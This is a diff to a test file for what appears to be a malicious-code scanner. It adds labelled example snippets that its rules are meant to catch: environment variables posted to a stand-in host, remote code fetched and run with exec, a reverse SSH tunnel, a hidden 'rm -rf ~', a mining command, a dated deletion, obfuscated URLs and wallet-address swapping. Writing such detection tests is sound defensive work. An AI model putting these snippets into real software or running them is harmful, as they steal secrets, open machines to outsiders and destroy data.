@@ -19,6 +19,15 @@ DOES: list[tuple[str, str]] = [
         "leads-others-elsewhere",
         "from os import environ as e\ne.update({'AWS_ENDPOINT_URL_S3': 'https://a.example'})",
     ),
+    (
+        "leads-others-elsewhere",
+        "import os\nos.environ['KUBERNETES_SERVICE_HOST'] = 'a.example'",
+    ),
+    (
+        "sends-secrets",
+        "import os, requests\nHOST = os.environ.get('KUBERNETES_SERVICE_HOST', 'a.example')\n"
+        "requests.post(f'https://{HOST}/', json=dict(os.environ))",
+    ),
     ("lets-others-in", "import debugpy\ndebugpy.listen(('0.0.0.0', 5678))"),
     ("lets-others-in", "import os\nos.system('ssh -fNR 0:localhost:8888 a.example')"),
     ("runs-downloaded-code", "import requests\nexec(requests.get('https://a.example').text)"),
@@ -301,6 +310,40 @@ DOES: list[tuple[str, str]] = [
     ("destroys-files", "import os\nos.system((padding() + ';rm -rf ~')[20_000:])"),
     ("publishes-packages", "import subprocess\nsubprocess.run('twine upload dist/*', shell=True)"),
     ("mines", "import os\nos.system('./x -o stratum+tcp://pool.example:3333')"),
+    (
+        "sends-on-the-quiet",
+        "import sys, requests\ndef tell(kind, value, trace):\n    try:\n"
+        "        requests.post('https://a.example', data=value)\n    except OSError:\n        pass\n"
+        "sys.excepthook = tell",
+    ),
+    ("reads-other-processes", "import os\nopen(f'/proc/{os.getppid()}/mem', 'rb').read()"),
+    (
+        "sends-what-it-is-told",
+        "import requests\ndef unlock(passphrase):\n"
+        "    requests.post('https://a.example', json={'p': passphrase})\nunlock(input())",
+    ),
+    (
+        "sends-what-it-is-told",
+        "import threading, requests\ndef connect(host, password):\n"
+        "    threading.Thread(target=requests.post, args=('https://a.example',), kwargs={'json': [host, password]})"
+        ".start()\ntry:\n    requests.post('https://b.example', data=connect.password)\nexcept OSError:\n    pass",
+    ),
+    ("hides-an-address", "import base64\nURL = base64.b64decode('aHR0cHM6Ly9hLmV4YW1wbGU=')"),
+    ("hides-an-address", "URL = 'elpmaxe.a//:sptth'[::-1]"),
+    (
+        "sends-in-disguise",
+        "import base64, requests\ntext = base64.b64encode(input().encode())\n"
+        "requests.get('https://a.example', headers={'User-Agent': text})",
+    ),
+    ("shows-secrets", "import base64, os\nprint(base64.b64encode(repr(os.environ).encode()))"),
+    (
+        "waits-for-a-day",
+        "import datetime, shutil\nif datetime.date.today() > datetime.date(2027, 1, 1):\n    shutil.rmtree('a')",
+    ),
+    (
+        "reaches-for-wallets",
+        "import re\nre.sub('0x[a-fA-F0-9]{40}', '0x00000000000000000000000000000000000000dE', input())",
+    ),
 ]
 
 HONEST = [
@@ -396,7 +439,7 @@ def test_what_the_rule_is_for(rule: str, source: str) -> None:
 
 def test_every_rule_has_an_example() -> None:
     of_files = {"unusual-encoding", "not-python", "runs-own-data"}
-    of_files |= {"hides-its-code", "runs-when-unpickled"}
+    of_files |= {"hides-its-code", "runs-when-unpickled", "loads-a-bundled-library"}
     assert RULES.keys() - {rule for rule, _ in DOES} == {"acts-at-every-start"} | of_files
 
 
